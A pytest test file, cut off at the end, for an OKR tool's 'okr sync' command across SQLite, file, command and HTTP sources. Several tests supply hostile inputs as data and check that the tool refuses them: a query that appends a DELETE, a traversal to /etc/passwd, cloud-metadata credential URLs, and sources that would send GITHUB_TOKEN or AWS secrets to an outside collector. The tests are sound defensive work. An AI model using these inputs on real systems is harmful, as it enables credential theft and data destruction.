"""`okr sync` against real sources started here: a SQLite database file, JSON, YAML and
CSV files, commands, and a stdlib HTTP server on 127.0.0.1 (slow, 500, non-JSON, huge
answers). PostgreSQL and Prometheus: tests/test_sync_servers.py.

Each source: a value synced and committed (the exact diff and commit body), a second run
that changes nothing, every failure located at its `source:` line with exit 1 and
nothing written for that key result (while the others sync), timeouts kept."""

from __future__ import annotations

import http.server
import json
import sqlite3
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from okrcli.base import codes
from tests.conftest import git
from tests.sync_helpers import (
    GOOD,
    GOOD_FILES,
    PLAT,
    Repo,
    Route,
    answer,
    assert_failed,
    http_server,
    key_result,
    make_repo,
    okr_file,
    source_line,
    synced_good,
)
from tests.test_golden import assert_golden

# ---- SQLite ---------------------------------------------------------------------------


def sqlite_file(path: Path, rows: list[tuple[str, int]]) -> bytes:
    path.parent.mkdir(parents=True, exist_ok=True)
    with sqlite3.connect(path) as connection:
        connection.execute("CREATE TABLE signups (week TEXT, n INTEGER, note TEXT)")
        connection.executemany("INSERT INTO signups VALUES (?, ?, 'x')", rows)
    connection.close()
    return path.read_bytes()


@pytest.fixture
def sqlite_repo(tmp_path: Path) -> Repo:
    database = sqlite_file(tmp_path / "build" / "m.db", [("w1", 30), ("w2", 17)])
    okr = okr_file(
        key_result("PLAT-1.1", "sql: SELECT sum(n) FROM signups\ndatabase: data/metrics.db"),
        key_result(
            "PLAT-1.2",
            "sql: SELECT avg(n) / 100.0 FROM signups\ndatabase: data/metrics.db\nscale: 100",
            current="20",
        ),
    )
    return make_repo(tmp_path, okr, {"data/metrics.db": database})


def test_sqlite_values_synced_and_committed_then_nothing_to_do(sqlite_repo: Repo) -> None:
    before = sqlite_repo.head()
    code, out, err = sqlite_repo.sync("--commit")
    assert code == 0, out + err
    assert sqlite_repo.diff() == (
        "-        current: 10   # the last check-in\n"
        "+        current: 47   # the last check-in\n"
        "-        current: 20   # the last check-in\n"
        "+        current: 23.5 # the last check-in"
    )
    assert sqlite_repo.message() == (
        "okr: sync 2 key results (2026-Q4)\n\n"
        "PLAT-1.1 10 -> 47 (sql: data/metrics.db)\n"
        "PLAT-1.2 20 -> 23.5 (sql: data/metrics.db)"
    )
    assert f"{PLAT}: PLAT-1.1 10 -> 47 (sql: data/metrics.db)" in out
    assert "2026-Q4: 2 sources: 2 changed; 1 file written" in out
    assert git(sqlite_repo.path, "rev-list", "--count", f"{before}..HEAD").strip() == "1"
    assert git(sqlite_repo.path, "status", "--porcelain").strip() == ""

    head, text = sqlite_repo.head(), sqlite_repo.okr_text()
    code, out, _ = sqlite_repo.sync("--commit")
    assert code == 0
    assert "2 unchanged; nothing to write" in out
    assert "PLAT-1.1 47 unchanged (sql: data/metrics.db)" in out
    assert sqlite_repo.head() == head and sqlite_repo.okr_text() == text


def test_a_synced_value_is_a_check_in_in_history(sqlite_repo: Repo) -> None:
    assert sqlite_repo.sync("--commit")[0] == 0
    result = sqlite_repo.cli.run("history", "PLAT-1.1", "--format", "json")
    points = json.loads(result.stdout)["points"]
    assert [p["current"] for p in points][-1] == 47
    assert "PLAT-1.1 10 -> 47 (sql: data/metrics.db)" in points[-1]["note"]


SQL_FAILURES = [
    ("SELECT n FROM signups", "the query returns several rows, not one"),
    ("SELECT n FROM signups WHERE n > 1000", "the query returns no row, not one"),
    ("SELECT week, n FROM signups LIMIT 1", "the query returns 2 columns (week, n), not one"),
    ("SELECT NULL", "the value is nothing (null)"),
    ("SELECT note FROM signups LIMIT 1", "the value 'x' is not a number"),
    ("SELECT 0.0 / 0", "the value is nothing (null)"),  # SQLite: a division by 0 is NULL
    ("SELECT n FROM nowhere", "the database said: no such table: nowhere"),
]


@pytest.mark.parametrize(("query", "said"), SQL_FAILURES, ids=[q for q, _ in SQL_FAILURES])
def test_sqlite_failures_are_located_and_write_nothing_for_them(
    tmp_path: Path, query: str, said: str
) -> None:
    database = sqlite_file(tmp_path / "build" / "m.db", [("w1", 30), ("w2", 17)])
    bad = key_result("PLAT-1.2", f"sql: {query}\ndatabase: data/metrics.db")
    repo = make_repo(tmp_path, okr_file(GOOD, bad), {**GOOD_FILES, "data/metrics.db": database})
    code, out, _ = repo.sync()
    assert code == 1
    assert_failed(repo, "PLAT-1.2", out, f"sql source: {said}")
    synced_good(repo)
    assert "current: 10   # the last check-in" in repo.okr_text()  # PLAT-1.2 untouched


def test_sqlite_missing_database_and_a_query_that_writes(tmp_path: Path) -> None:
    database = sqlite_file(tmp_path / "build" / "m.db", [("w1", 30)])
    missing = key_result("PLAT-1.2", "sql: SELECT 1\ndatabase: data/none.db")
    writes = key_result(
        "PLAT-1.3",
        "sql: WITH gone AS (SELECT 1) SELECT count(*) FROM signups; DELETE FROM signups\n"
        "database: data/metrics.db",
    )
    repo = make_repo(tmp_path, okr_file(GOOD, missing, writes), {**GOOD_FILES, "data/m.db": b""})
    repo.write("data/metrics.db", database)
    code, out, _ = repo.sync()
    assert code == 1
    assert_failed(repo, "PLAT-1.2", out, "data/none.db does not exist")
    assert_failed(repo, "PLAT-1.3", out, "the database said:")
    with sqlite3.connect(repo.path / "data" / "metrics.db") as connection:
        assert connection.execute("SELECT count(*) FROM signups").fetchone() == (1,)
    synced_good(repo)


def test_sqlite_timeout_stops_the_query(tmp_path: Path) -> None:
    database = sqlite_file(tmp_path / "build" / "m.db", [("w1", 30)])
    endless = (
        "sql: WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) "
        "SELECT max(i) FROM n\ndatabase: data/metrics.db\ntimeout: 0.5"
    )
    repo = make_repo(
        tmp_path,
        okr_file(GOOD, key_result("PLAT-1.2", endless)),
        {**GOOD_FILES, "data/metrics.db": database},
    )
    started = time.monotonic()
    code, out, _ = repo.sync()
    assert time.monotonic() - started < 10
    assert code == 1
    assert_failed(repo, "PLAT-1.2", out, "sql source: timed out after 0.5 s")
    synced_good(repo)


def test_sql_url_from_the_environment_and_relative_sqlite(tmp_path: Path) -> None:
    database = sqlite_file(tmp_path / "build" / "m.db", [("w1", 30), ("w2", 12)])
    from_env = key_result("PLAT-1.2", "sql: SELECT max(n) FROM signups\nurl_env: OKR_METRICS_URL")
    repo = make_repo(tmp_path, okr_file(from_env), {"data/metrics.db": database})
    code, out, _ = repo.sync()
    assert code == 1
    assert_failed(repo, "PLAT-1.2", out, "the environment variable OKR_METRICS_URL")
    code, out, _ = repo.sync(env={"OKR_METRICS_URL": "sqlite:///data/metrics.db"})
    assert code == 0, out
    assert "PLAT-1.2 10 -> 30 (sql: $OKR_METRICS_URL)" in out


# ---- files ----------------------------------------------------------------------------


def test_json_yaml_and_csv_files(tmp_path: Path) -> None:
    okr = okr_file(
        key_result("PLAT-1.1", "file: metrics/deploys.json\nselect: 'weeks[-1].rate'\nscale: 100"),
        key_result("PLAT-1.2", "file: metrics/latency.yaml\nselect: p95", kind="maintain"),
        key_result("PLAT-1.3", "file: metrics/signups.csv\ncolumn: signups"),
        key_result("PLAT-1.4", "file: metrics/signups.csv\ncolumn: signups\nrow: 1"),
        key_result(
            "PLAT-1.5", "file: metrics/score.json\nselect: score", kind="judged", current=None
        ),
    )
    files: dict[str, str | bytes] = {
        "metrics/deploys.json": '{"weeks": [{"rate": 0.95}, {"rate": 0.9731}]}',
        "metrics/latency.yaml": "# written by the latency job\np95: 275\n",
        "metrics/signups.csv": "week;signups\n2026-W46;31\n2026-W47;44\n\n",
        "metrics/score.json": '{"score": 0.6}',
    }
    repo = make_repo(tmp_path, okr, files)
    code, out, err = repo.sync("--commit")
    assert code == 0, out + err
    assert repo.diff() == "\n".join(
        [
            "-        current: 10   # the last check-in",
            "+        current: 97.31 # the last check-in",
            "-        current: 10   # the last check-in",
            "+        current: 275  # the last check-in",
            "-        current: 10   # the last check-in",
            "+        current: 44   # the last check-in",
            "-        current: 10   # the last check-in",
            "+        current: 31   # the last check-in",
            "+        current: 0.6",
        ]
    )
    assert repo.message().splitlines()[2:] == [
        "PLAT-1.1 10 -> 97.31 (file: metrics/deploys.json)",
        "PLAT-1.2 10 -> 275 (file: metrics/latency.yaml)",
        "PLAT-1.3 10 -> 44 (file: metrics/signups.csv)",
        "PLAT-1.4 10 -> 31 (file: metrics/signups.csv)",
        "PLAT-1.5 - -> 0.6 (file: metrics/score.json)",
    ]
    # A first value goes above `source:`, which stays the last key.
    text = repo.okr_text()
    assert text.index("current: 0.6") < text.index("file: metrics/score.json")
    assert repo.sync("--commit")[:2] == (0, repo.sync()[1])


FILE_FAILURES = [
    ("file: data/none.json\nselect: a", {}, "data/none.json does not exist"),
    ("file: data/x.json\nselect: a", {"data/x.json": "{nope"}, "data/x.json is not JSON"),
    ("file: data/x.json\nselect: a", {"data/x.json": '{"a": [1, 2]}'}, "selects a list of 2"),
    ("file: data/x.json\nselect: b", {"data/x.json": '{"a": 1}'}, "`b` selects nothing"),
    ("file: data/x.json\nselect: a", {"data/x.json": '{"a": "NaN"}'}, "NaN"),
    ("file: data/x.json\nselect: a", {"data/x.json": '{"a": true}'}, "true, not a number"),
    ("file: data/x.json\nselect: a", {"data/x.json": '{"a": 1e400}'}, "infinite"),
    ("file: data/x.yaml\nselect: a", {"data/x.yaml": "a: &x 1\nb: *x\n"}, "not YAML okr"),
    ("file: data/x.csv\ncolumn: n", {"data/x.csv": "m\n1\n"}, "no column `n`"),
    ("file: data/x.csv\ncolumn: n\nrow: 5", {"data/x.csv": "n\n1\n"}, "there is no row 5"),
    ("file: data/x.csv\ncolumn: n", {"data/x.csv": "n\nlots\n"}, "'lots' is not a number"),
    ("file: data/x.json\nselect: a", {"data/x.json": "[" * 100_000}, "is not JSON"),
]


@pytest.mark.parametrize(("source", "files", "said"), FILE_FAILURES)
def test_file_failures(tmp_path: Path, source: str, files: dict[str, str], said: str) -> None:
    repo = make_repo(tmp_path, okr_file(GOOD, key_result("PLAT-1.2", source)), GOOD_FILES)
    for relative, text in files.items():
        repo.write(relative, text)
    code, out, _ = repo.sync()
    assert code == 1
    assert_failed(repo, "PLAT-1.2", out, said)
    synced_good(repo)


def test_file_links_out_of_the_repository_and_huge_files_are_refused(tmp_path: Path) -> None:
    outside = tmp_path / "secret.json"
    outside.write_text('{"a": 7}', encoding="utf-8")
    okr = okr_file(
        GOOD,
        key_result("PLAT-1.2", "file: data/link.json\nselect: a"),
        key_result("PLAT-1.3", "file: data/huge.json\nselect: a"),
    )
    repo = make_repo(tmp_path, okr, GOOD_FILES)
    (repo.path / "data" / "link.json").symlink_to(outside)
    repo.write("data/huge.json", '{"a": 1, "b": "' + "x" * (1024 * 1024) + '"}')
    code, out, _ = repo.sync()
    assert code == 1
    assert_failed(repo, "PLAT-1.2", out, "leads out of the repository")
    assert_failed(repo, "PLAT-1.3", out, "okrcli reads files up to 1,048,576 bytes")
    synced_good(repo)


def test_paths_out_of_the_repository_are_validation_errors(cli_repo: Repo) -> None:
    cli_repo.write(
        PLAT,
        okr_file(
            key_result("PLAT-1.1", "file: ../../etc/passwd.json\nselect: a"),
            key_result("PLAT-1.2", "sql: SELECT 1\ndatabase: /var/lib/x.db"),
        ),
    )
    result = cli_repo.cli.run("validate")
    assert result.exit_code == 1
    assert "`file` `../../etc/passwd.json`: the path leads out of the repository" in result.stdout
    assert "`database` `/var/lib/x.db`: give the path relative" in result.stdout
    assert cli_repo.sync()[0] == 1  # invalid files: nothing is fetched


@pytest.fixture
def cli_repo(tmp_path: Path) -> Repo:
    return make_repo(tmp_path, okr_file(GOOD), GOOD_FILES)


# ---- commands -------------------------------------------------------------------------

PYTHON = sys.executable
COMMANDS_ON = "sync:\n  commands: true\n"


def command(*argv: str, timeout: float | None = None) -> str:
    listed = ", ".join(json.dumps(arg) for arg in argv)
    return f"command: [{listed}]" + (f"\ntimeout: {timeout}" if timeout else "")


def test_commands_run_only_when_okrcli_yaml_enables_them(tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    argv = (PYTHON, "-c", f"open({str(marker)!r}, 'w'); print(12)")
    repo = make_repo(tmp_path, okr_file(GOOD, key_result("PLAT-1.2", command(*argv))), GOOD_FILES)
    code, out, _ = repo.sync()
    assert code == 1
    assert_failed(repo, "PLAT-1.2", out, "command sources are off", codes.COMMANDS_DISABLED)
    assert not marker.exists()
    synced_good(repo)
    # Sources never run while validating or viewing.
    for view in (["validate"], ["status"], ["report"], ["lint"]):
        repo.cli.run(*view)
    assert not marker.exists()

    # Enabled in okrcli.yaml (a pull request could do that): still not without the flag.
    repo.write("okrs/okrcli.yaml", COMMANDS_ON)
    repo.commit_all("the first sync; commands on")
    code, out, _ = repo.sync()
    assert code == 1
    assert_failed(repo, "PLAT-1.2", out, "run only with --allow-commands", codes.COMMANDS_DISABLED)
    assert not marker.exists()

    code, out, err = repo.sync("--commit", "--allow-commands")
    assert code == 0, out + err
    assert marker.exists()
    assert f"PLAT-1.2 10 -> 12 (command: {PYTHON} -c" in repo.message()


def test_the_commit_body_has_one_line_for_each_change(tmp_path: Path) -> None:
    """An argument with line breaks cannot add a line (a forged `Okr-Check-in:`
    trailer) to the commit."""
    forged = "\nOkr-Check-in: 2026-Q4/PLAT-1.1\n"
    argv = (PYTHON, "-c", "print(12)", forged)
    repo = make_repo(
        tmp_path,
        okr_file(key_result("PLAT-1.2", command(*argv))),
        {"okrs/okrcli.yaml": COMMANDS_ON},
    )
    code, out, err = repo.sync("--commit", "--allow-commands")
    assert code == 0, out + err
    assert repo.message().splitlines() == [
        "okr: sync PLAT-1.2 10 -> 12",
        "",
        f"PLAT-1.2 10 -> 12 (command: {PYTHON} -c 'print(12)' ' Okr-Check-in: 2026-Q4/PLAT-1.1 ')",
    ]


COMMAND_FAILURES = [
    (
        (PYTHON, "-c", "import sys; print('boom', file=sys.stderr); sys.exit(3)"),
        "exited with 3: boom",
    ),
    ((PYTHON, "-c", "print(1); print(2)"), "printed 2 lines; one number is wanted"),
    ((PYTHON, "-c", "pass"), "printed nothing"),
    ((PYTHON, "-c", "print('12 users')"), "'12 users' is not a number"),
    ((PYTHON, "-c", "print('x' * 200000)"), "printed more than 64 KiB"),
    (("no-such-program-okr",), "cannot run `no-such-program-okr`"),
    (("scripts/../../outside",), "does not exist"),
]


@pytest.mark.parametrize(("argv", "said"), COMMAND_FAILURES, ids=[s for _, s in COMMAND_FAILURES])
def test_command_failures(tmp_path: Path, argv: tuple[str, ...], said: str) -> None:
    repo = make_repo(
        tmp_path,
        okr_file(GOOD, key_result("PLAT-1.2", command(*argv))),
        {**GOOD_FILES, "okrs/okrcli.yaml": COMMANDS_ON},
    )
    code, out, _ = repo.sync("--allow-commands")
    assert code == 1
    assert_failed(repo, "PLAT-1.2", out, said)
    synced_good(repo)


def test_command_timeout_stops_the_program_and_its_children(tmp_path: Path) -> None:
    marker = tmp_path / "late"
    child = f"import time; time.sleep(3); open({str(marker)!r}, 'w')"
    script = (
        "import subprocess, sys, time\n"
        f"subprocess.Popen([sys.executable, '-c', {child!r}])\n"
        "time.sleep(30)\n"
    )
    repo = make_repo(
        tmp_path,
        okr_file(GOOD, key_result("PLAT-1.2", command(PYTHON, "scripts/slow.py", timeout=1))),
        {**GOOD_FILES, "okrs/okrcli.yaml": COMMANDS_ON, "scripts/slow.py": script},
    )
    started = time.monotonic()
    code, out, _ = repo.sync("--allow-commands")
    assert time.monotonic() - started < 8
    assert code == 1
    assert_failed(repo, "PLAT-1.2", out, "timed out after 1 s")
    time.sleep(3)
    assert not marker.exists()  # the child was stopped with its parent
    synced_good(repo)


# ---- HTTP -----------------------------------------------------------------------------


def slow(handler: http.server.BaseHTTPRequestHandler) -> None:
    time.sleep(3)
    answer(handler, b'{"value": 1}')


def trickle(handler: http.server.BaseHTTPRequestHandler) -> None:
    handler.send_response(200)
    handler.send_header("Content-Type", "application/json")
    handler.end_headers()
    handler.wfile.write(b'{"value": ')
    for _ in range(40):
        time.sleep(0.1)
        handler.wfile.write(b" ")
        handler.wfile.flush()
    handler.wfile.write(b"1}")


def huge(handler: http.server.BaseHTTPRequestHandler) -> None:
    handler.send_response(200)
    handler.end_headers()  # no Content-Length: read until the cap
    chunk = b" " * 65536
    for _ in range(40):
        handler.wfile.write(chunk)


def needs_token(handler: http.server.BaseHTTPRequestHandler) -> None:
    if handler.headers.get("Authorization") != "Bearer s3cret-from-env":
        answer(handler, b'{"error": "unauthorized"}', 401)
        return
    answer(handler, b'{"data": {"rate": 0.9712, "items": [{"n": 3}, {"n": 4}]}}')


def moved(handler: http.server.BaseHTTPRequestHandler) -> None:
    handler.send_response(302)
    handler.send_header("Location", "/stats")
    handler.end_headers()


ROUTES: dict[str, Route] = {
    "/stats": needs_token,
    "/slow": slow,
    "/trickle": trickle,
    "/huge": huge,
    "/declared-huge": lambda h: answer(h, b"{}" + b" " * (2 * 1024 * 1024)),
    "/error": lambda h: answer(h, b'{"error": "database is down"}', 500),
    "/html": lambda h: answer(h, b"<html>maintenance</html>", 200, "text/html"),
    "/moved": moved,
}


def http_source(url: str, select: str = "data.rate", extra: str = "") -> str:
    headers = 'headers:\n  Authorization: "Bearer ${OKR_STATS_TOKEN}"'
    return f"http: {url}\nselect: {select}\n{headers}\n{extra}".strip()


def test_http_value_synced_with_a_token_from_the_environment(tmp_path: Path) -> None:
    with http_server(ROUTES) as base:
        okr = okr_file(
            key_result("PLAT-1.1", http_source(f"{base}/stats", extra="scale: 100\nround: 1")),
            key_result("PLAT-1.2", http_source(f"{base}/stats", "sum(data.items[].n)")),
        )
        repo = make_repo(tmp_path, okr)
        code, out, _ = repo.sync("--commit")
        assert code == 1
        assert_failed(repo, "PLAT-1.1", out, "the environment variable OKR_STATS_TOKEN")
        token = {"OKR_STATS_TOKEN": "s3cret-from-env"}
        code, out, err = repo.sync("--commit", env=token)
        assert code == 0, out + err
        assert repo.diff() == (
            "-        current: 10   # the last check-in\n"
            "+        current: 97.1 # the last check-in\n"
            "-        current: 10   # the last check-in\n"
            "+        current: 7    # the last check-in"
        )
        assert repo.message().splitlines()[2:] == [
            f"PLAT-1.1 10 -> 97.1 (http: {base}/stats)",
            f"PLAT-1.2 10 -> 7 (http: {base}/stats)",
        ]
        assert "s3cret" not in out + err + repo.message() + repo.okr_text()
        head = repo.head()
        assert repo.sync("--commit", env=token)[0] == 0
        assert repo.head() == head


HTTP_FAILURES = [
    ("/slow", "timeout: 1", "timed out after 1 s"),
    ("/trickle", "timeout: 1", "timed out after 1 s"),
    ("/error", "", "the server answered 500 Internal Server Error: database is down"),
    ("/html", "", "the response is not JSON (it starts '<html>maintenance</html>')"),
    ("/huge", "", "the response is larger than 1024 KiB"),
    ("/declared-huge", "", "the response is larger than 1024 KiB (2097154 bytes)"),
    ("/moved", "", "the server redirects (302) to /stats; redirects are not followed"),
    ("/missing", "", "the server answered 404"),
]


@pytest.mark.parametrize(
    ("path", "extra", "said"), HTTP_FAILURES, ids=[p for p, _, _ in HTTP_FAILURES]
)
def test_http_failures(tmp_path: Path, path: str, extra: str, said: str) -> None:
    with http_server(ROUTES) as base:
        okr = okr_file(GOOD, key_result("PLAT-1.2", http_source(f"{base}{path}", extra=extra)))
        repo = make_repo(tmp_path, okr, GOOD_FILES)
        started = time.monotonic()
        code, out, _ = repo.sync(env={"OKR_STATS_TOKEN": "s3cret-from-env"})
        assert time.monotonic() - started < 8
    assert code == 1
    assert_failed(repo, "PLAT-1.2", out, said)
    synced_good(repo)


def test_http_unreachable(tmp_path: Path) -> None:
    from tests.sync_helpers import free_port

    url = f"http://127.0.0.1:{free_port()}/stats"
    repo = make_repo(tmp_path, okr_file(GOOD, key_result("PLAT-1.2", http_source(url))), GOOD_FILES)
    code, out, _ = repo.sync(env={"OKR_STATS_TOKEN": "x"})
    assert code == 1
    assert_failed(repo, "PLAT-1.2", out, "cannot reach the server")


def test_a_secret_that_cannot_be_sent_is_never_shown(tmp_path: Path) -> None:
    """A token saved with its line break, or a value with a space in the URL: the
    request cannot be sent, and the error names the variable, never its value."""
    with http_server(ROUTES) as base:
        in_header = key_result("PLAT-1.2", http_source(f"{base}/stats"))
        in_url = key_result("PLAT-1.3", f"http: {base}/stats?t=${{OKR_QUERY}}\nselect: n")
        repo = make_repo(tmp_path, okr_file(GOOD, in_header, in_url), GOOD_FILES)
        env = {"OKR_STATS_TOKEN": "s3cret-from-env\n", "OKR_QUERY": "s3cret query"}
        for output_format in ("text", "json"):
            code, out, err = repo.sync("--format", output_format, env=env)
            assert code == 1
            assert "s3cret" not in out + err
    assert_failed(
        repo,
        "PLAT-1.2",
        repo.sync(env=env)[1],
        "OKR_STATS_TOKEN (in the header Authorization) "
        "holds a line break or another control character; nothing was sent",
    )
    assert_failed(repo, "PLAT-1.3", repo.sync(env=env)[1], "the URL or a header cannot be sent")
    synced_good(repo)


def test_the_cloud_metadata_service_is_never_requested(tmp_path: Path) -> None:
    """A pull request's source cannot read the runner's credentials (and have an error
    quote them): link-local and metadata addresses are refused before connecting."""
    urls = (
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/ci",
        "https://[fd00:ec2::254]/latest/meta-data/",
        "http://[::ffff:169.254.169.254]/",
    )
    sources = [
        key_result(f"PLAT-1.{i}", f"http: {url}\nselect: SecretAccessKey")
        for i, url in enumerate(urls, 2)
    ]
    repo = make_repo(tmp_path, okr_file(GOOD, *sources), GOOD_FILES)
    started = time.monotonic()
    code, out, _ = repo.sync()
    assert time.monotonic() - started < 8
    assert code == 1
    said = "is a link-local or cloud metadata address ({}); not requested"
    assert_failed(repo, "PLAT-1.2", out, said.format("169.254.169.254"))
    assert_failed(repo, "PLAT-1.3", out, said.format("fd00:ec2:\u200b:254"))  # `::` defused
    assert_failed(repo, "PLAT-1.4", out, "(169.254.169.254); not requested")
    synced_good(repo)


def test_literal_secrets_are_validation_errors(cli_repo: Repo) -> None:
    source = (
        "http: https://user:hunter2@stats.example/api?api_key=abc123\n"
        "select: rate\n"
        "headers:\n"
        "  Authorization: Bearer abcd1234efgh5678\n"
        "  X-Trace: ${OKR_TRACE}"
    )
    cli_repo.write(PLAT, okr_file(key_result("PLAT-1.1", source)))
    result = cli_repo.cli.run("validate")
    assert result.exit_code == 1
    lines = [line for line in result.stdout.splitlines() if "error[OKR048]" in line]
    line = source_line(cli_repo, "PLAT-1.1")
    assert [item.split(": error")[0] for item in lines] == [
        f"{PLAT}:{line + 1}:17",
        f"{PLAT}:{line + 1}:17",
        f"{PLAT}:{line + 4}:28",
    ]
    assert "the header `Authorization` holds a literal secret" in lines[2]
    assert 'Authorization: "Bearer ${OKR_API_TOKEN}"' in result.stdout
    assert "hunter2" not in result.stdout and "abcd1234" not in result.stdout


def test_an_expression_that_does_not_compile_is_a_validation_error(cli_repo: Repo) -> None:
    """A typo in `select:` fails `okr validate` in review, at its line, not a sync at night."""
    cli_repo.write(PLAT, okr_file(key_result("PLAT-1.1", "file: data/good.json\nselect: 'value['")))
    result = cli_repo.cli.run("validate")
    assert result.exit_code == 1
    (found,) = [line for line in result.stdout.splitlines() if ": error[" in line]
    line = source_line(cli_repo, "PLAT-1.1")
    assert found.startswith(f"{PLAT}:{line + 2}:19: error[OKR022]: PLAT-1.1: "), found
    assert "not a JMESPath expression" in found


def test_sources_read_only_okr_environment_variables(cli_repo: Repo) -> None:
    """A file cannot send the job's other secrets (a CI token) to a server it names."""
    sources = (
        "http: https://collector.example/?t=${GITHUB_TOKEN}\nselect: n",
        'http: https://collector.example/\nselect: n\nheaders:\n  X-Id: "${AWS_SECRET}"',
        "sql: SELECT 1\nurl_env: DATABASE_URL",
        "prometheus: up\nserver_env: PROM",
    )
    okr = okr_file(*(key_result(f"PLAT-1.{i}", text) for i, text in enumerate(sources, 1)))
    cli_repo.write(PLAT, okr)
    result = cli_repo.cli.run("validate")
    assert result.exit_code == 1
    found = [line for line in result.stdout.splitlines() if ": error[" in line]
    at = {ident: source_line(cli_repo, ident) for ident in ("PLAT-1.1", "PLAT-1.2")}
    assert found[0].startswith(f"{PLAT}:{at['PLAT-1.1'] + 1}:17: error[OKR022]: PLAT-1.1: ")
    assert "`${GITHUB_TOKEN}`: a source reads only environment variables named OKR_..." in found[0]
    assert found[1].startswith(f"{PLAT}:{at['PLAT-1.2'] + 4}:13: error[OKR022]: PLAT-1.2: ")
    assert "`${AWS_SECRET}`: a source reads only" in found[1]
    assert "`url_env`" in found[2] and "DATABASE_URL" in found[2]
    assert "`server_env`" in found[3] and "PROM" in found[3]
    assert len(found) == 4, result.stdout
    hints = [line for line in result.stdout.splitlines() if line.startswith("  hint: ")]
    assert hints == [
        "  hint: reference only variables named OKR_... (`${OKR_STATS_TOKEN}`), set by the job "
        "that runs okr sync",
    ] * 2 + [
        "  hint: name a variable that starts with OKR_ (e.g. OKR_METRICS_URL) and set it where "
        "okr sync runs",
        "  hint: name a variable that starts with OKR_ (e.g. OKR_PROMETHEUS_URL) and set it "
        "where okr sync runs",
    ]


# ---- the command as a whole -------------------------------------------------------------


@pytest.fixture
def mixed(tmp_path: Path) -> Repo:
    okr = okr_file(
        GOOD,
        key_result("PLAT-1.2", "file: data/bad.json\nselect: value"),
        key_result("PLAT-1.3", "file: data/other.json\nselect: value"),
    )
    files: dict[str, str | bytes] = {
        **GOOD_FILES,
        "data/bad.json": '{"value": "n/a"}',
        "data/other.json": '{"value": 7}',
    }
    return make_repo(tmp_path, okr, files)


def test_dry_run_shows_old_and_new_and_writes_nothing(mixed: Repo) -> None:
    text, head = mixed.okr_text(), mixed.head()
    code, out, _ = mixed.sync("--dry-run")
    assert code == 1
    assert f"{PLAT}: PLAT-1.1 10 -> 42 (dry run) (file: data/good.json)" in out
    assert "3 sources: 2 changed, 1 failed; dry run, nothing written" in out
    assert mixed.okr_text() == text and mixed.head() == head
    assert mixed.sync("--dry-run", "--commit")[0] == 2


def test_strict_is_all_or_nothing(mixed: Repo) -> None:
    text, head = mixed.okr_text(), mixed.head()
    code, out, _ = mixed.sync("--strict", "--commit")
    assert code == 1
    assert "--strict: nothing written" in out
    assert mixed.okr_text() == text
    assert mixed.head() == head
    mixed.write("data/bad.json", '{"value": 5}')
    code, out, _ = mixed.sync("--strict", "--commit")
    assert code == 0
    assert mixed.message().startswith("okr: sync 3 key results (2026-Q4)")


def test_named_key_results_only(mixed: Repo) -> None:
    code, out, _ = mixed.sync("PLAT-1.3", "2026-Q4/PLAT-1.1", "--commit")
    assert code == 0, out
    assert mixed.message().splitlines()[2:] == [
        "PLAT-1.3 10 -> 7 (file: data/other.json)",
        "PLAT-1.1 10 -> 42 (file: data/good.json)",
    ]
    code, out, err = mixed.sync("PLAT-9")
    assert code == 2 and "no key result `PLAT-9`" in err


def test_a_key_result_without_a_source_is_a_usage_error(tmp_path: Path) -> None:
    plain = "      - id: PLAT-1.9\n        title: By hand\n        start: 0\n        target: 5\n"
    repo = make_repo(tmp_path, okr_file(GOOD, plain), GOOD_FILES)
    code, _, err = repo.sync("PLAT-1.9")
    assert code == 2
    assert "PLAT-1.9 has no `source:`; nothing to sync" in err


def test_one_commit_only_with_a_clean_file(mixed: Repo) -> None:
    mixed.write(PLAT, mixed.okr_text().replace("# Platform", "# Edited Platform"))
    head = mixed.head()
    code, _, err = mixed.sync("PLAT-1.1", "--commit")
    assert code == 1
    assert "has uncommitted changes; nothing written" in err
    assert "current: 42" not in mixed.okr_text()
    assert mixed.head() == head


def test_one_commit_only_with_a_file_clean_under_the_lock(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The file must be clean as it is under the edit lock, not only as it was drafted:
    an edit another writer leaves uncommitted in between is refused like one made
    before the sync, and stays out of the sync's commit."""
    from okrcli.edit import checkin

    repo = make_repo(tmp_path, okr_file(GOOD), GOOD_FILES)
    real = checkin.draft_check_ins

    def then_another_writer(*args: Any, **kwargs: Any) -> Any:
        drafted = real(*args, **kwargs)
        repo.write(PLAT, repo.okr_text().replace("# Platform", "# Edited Platform"))
        return drafted

    monkeypatch.setattr(checkin, "draft_check_ins", then_another_writer)
    head = repo.head()
    code, out, err = repo.sync("--commit")
    assert code == 1, out
    assert "2026-Q4/platform.yaml has uncommitted changes; nothing written" in err
    assert repo.head() == head
    assert "# Edited Platform" in repo.okr_text()
    assert "current: 42" not in repo.okr_text()


def test_a_file_that_no_longer_takes_its_draft_stops_the_sync_before_any_write(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A key result removed by another writer between the drafting and the edit lock
    stops the sync with "nothing written": so nothing is, not even the files written
    before that file's turn (growth.yaml comes first), and no commit is half made."""
    import contextlib

    from okrcli.edit import atomic

    growth = (
        okr_file(key_result("GROW-1.1", "file: data/good.json\nselect: value"))
        .replace("team: platform", "team: growth")
        .replace("id: PLAT-1\n", "id: GROW-1\n")
    )
    repo = make_repo(tmp_path, okr_file(GOOD), {**GOOD_FILES, "okrs/2026-Q4/growth.yaml": growth})
    real = atomic.edit_lock

    @contextlib.contextmanager
    def after_another_writer(root: Path) -> Any:
        repo.write(PLAT, repo.okr_text().replace("PLAT-1.1", "PLAT-1.7"))
        repo.commit_all("PLAT-1.1 is PLAT-1.7 now")
        with real(root):
            yield

    monkeypatch.setattr(atomic, "edit_lock", after_another_writer)
    head = repo.head()
    code, _, err = repo.sync("--commit")
    assert code == 1
    assert "PLAT-1.1 is no longer in 2026-Q4/platform.yaml; nothing written" in err
    assert "hint: another edit moved or renamed it meanwhile: check in to where it is now" in err
    assert (repo.path / "okrs/2026-Q4/growth.yaml").read_text() == growth
    assert git(repo.path, "status", "--porcelain").strip() == ""
    assert git(repo.path, "rev-list", "--count", f"{head}..HEAD").strip() == "1"


def test_a_value_the_kind_refuses_fails_at_its_source(tmp_path: Path) -> None:
    judged = key_result("PLAT-1.2", "file: data/score.json\nselect: s", kind="judged", current=None)
